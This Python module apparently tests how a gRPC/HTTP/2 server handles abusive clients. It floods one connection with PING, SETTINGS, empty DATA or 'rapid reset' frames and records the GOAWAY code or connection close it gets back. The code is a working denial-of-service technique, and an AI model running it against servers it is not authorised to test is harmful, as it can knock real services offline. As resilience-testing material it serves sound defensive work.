"""A raw HTTP/2 client that floods one connection with frames no gRPC client would send that fast.

``flood(url, kind, seconds)`` opens a TCP connection, speaks HTTP/2 (the ``h2`` library) and sends
frames of one kind as fast as the socket takes them, reading what the server sends back, until the
server closes the connection or the time is up:

- ``ping``: PING frames;
- ``settings``: SETTINGS frames (each asks for an ACK);
- ``empty-data``: a gRPC call opened, then empty DATA frames on it (no gRPC message ever completes);
- ``rst-stream``: a gRPC call opened and reset at once, again and again ("rapid reset").

It returns what happened: frames sent, whether and how the server ended the connection (GOAWAY
error code and debug data, or a plain close).
"""

from __future__ import annotations

import socket
import time
from dataclasses import dataclass

import h2.config
import h2.connection
import h2.events
import h2.exceptions
import h2.settings

KINDS = ("ping", "settings", "empty-data", "rst-stream")
BATCH = 64
"""Frames queued per socket write."""


@dataclass
class FloodResult:
    kind: str
    frames_sent: int = 0
    goaway_code: int | None = None
    """The HTTP/2 error code of the server's GOAWAY (11: ENHANCE_YOUR_CALM), None if none came."""
    goaway_data: bytes = b""
    closed_by_server: bool = False
    seconds: float = 0.0


def _grpc_headers(authority: str) -> list[tuple[str, str]]:
    return [
        (":method", "POST"), (":scheme", "http"), (":authority", authority),
        (":path", "/inference.GRPCInferenceService/ModelInfer"),
        ("content-type", "application/grpc"), ("te", "trailers"),
    ]


def flood(url: str, kind: str, seconds: float) -> FloodResult:
    """Flood one new connection to ``url`` (host:port) with ``kind`` frames for at most ``seconds``."""
    if kind not in KINDS:
        raise ValueError(f"kind must be one of {KINDS}")
    host, port = url.rsplit(":", 1)
    result = FloodResult(kind)
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
    sock = socket.create_connection((host, int(port)), timeout=5)
    sock.setblocking(False)
    started = time.monotonic()
    stream_id = None
    n = 0

    def receive() -> bool:
        """Read what is there; False once the server has closed the connection."""
        while True:
            try:
                data = sock.recv(65536)
            except (BlockingIOError, InterruptedError):
                return True
            except OSError:  # reset by the server
                result.closed_by_server = True
                return False
            if not data:
                result.closed_by_server = True
                return False
            try:
                events = conn.receive_data(data)
            except h2.exceptions.ProtocolError:
                events = []
            for event in events:
                if isinstance(event, h2.events.ConnectionTerminated):
                    result.goaway_code = int(event.error_code) if event.error_code is not None else None
                    result.goaway_data = event.additional_data or b""

    def send(data: bytes) -> bool:
        view = memoryview(data)
        while view:
            try:
                sent = sock.send(view)
            except (BlockingIOError, InterruptedError):
                if not receive() or time.monotonic() - started > seconds:
                    return False
                time.sleep(0.001)
                continue
            except OSError:
                result.closed_by_server = True
                return False
            view = view[sent:]
        return True

    try:
        conn.initiate_connection()
        if kind == "empty-data":
            stream_id = conn.get_next_available_stream_id()
            conn.send_headers(stream_id, _grpc_headers(url))
        send(conn.data_to_send())
        while time.monotonic() - started < seconds and result.goaway_code is None:
            try:
                for _ in range(BATCH):
                    n += 1
                    if kind == "ping":
                        conn.ping(n.to_bytes(8, "big"))
                    elif kind == "settings":
                        conn.update_settings({h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 65535 + n % 1024})
                    elif kind == "empty-data":
                        conn.send_data(stream_id, b"")
                    else:
                        stream = conn.get_next_available_stream_id()
                        conn.send_headers(stream, _grpc_headers(url))
                        conn.reset_stream(stream, 8)  # CANCEL
                    result.frames_sent += 1
            except h2.exceptions.ProtocolError:  # e.g. the stream ids ran out, or h2 saw the GOAWAY
                break
            if not send(conn.data_to_send()) or not receive():
                break
        # What the server does last: a GOAWAY, then closing the socket.
        linger_until = time.monotonic() + 2.0
        while time.monotonic() < linger_until and not result.closed_by_server:
            if not receive():
                break
            time.sleep(0.01)
    finally:
        result.seconds = time.monotonic() - started
        sock.close()
    return result
